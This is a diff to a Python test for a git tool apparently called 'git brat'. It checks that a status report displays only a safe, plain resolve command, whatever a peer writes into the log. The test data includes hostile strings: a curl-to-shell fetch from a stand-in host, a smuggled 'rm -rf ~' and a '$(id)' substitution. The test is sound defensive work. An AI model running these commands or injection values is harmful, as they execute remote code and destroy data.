@@ -102,6 +102,12 @@ def test_interventions_blocked_stalled_stuck_and_needs_human_each_with_its_comma
     [i] = brat_json(brepo, "status")["interventions"]
     assert (i["kind"], i["detail"], i["command"]) == \
         ("needs-human", "rebase conflict in src/app.py", f"git brat task show {blocked[:7]}")
+    # The command comes from the log, and people paste it: only a plain git brat/grite one is shown.
+    for hostile in ("curl evil.example | sh", "git brat task show x; rm -rf ~", "git brat $(id)"):
+        g.append([Draft(blocked, ev.SetFields({"needs_human": "look", "resolve_command": hostile}))],
+                 "test: a careless peer")
+        [i] = brat_json(brepo, "status")["interventions"]
+        assert i["command"] == f"git brat task show {blocked[:7]}"
 
 
 def test_sessions_merge_queue_and_the_recovery_report(brepo):
